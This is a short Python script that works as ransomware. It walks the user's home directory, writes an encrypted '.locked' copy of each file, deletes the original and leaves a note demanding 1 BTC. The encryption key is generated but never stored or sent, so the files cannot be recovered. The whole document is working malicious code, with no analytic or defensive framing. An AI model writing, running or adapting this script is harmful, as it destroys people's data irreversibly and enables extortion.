import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        p = os.path.join(root, name)
        try:
            data = open(p, "rb").read()
            open(p + ".locked", "wb").write(f.encrypt(data))
            os.remove(p)
        except Exception:
            pass
open(os.path.expanduser("~/README_DECRYPT.txt"), "w").write("Send 1 BTC")
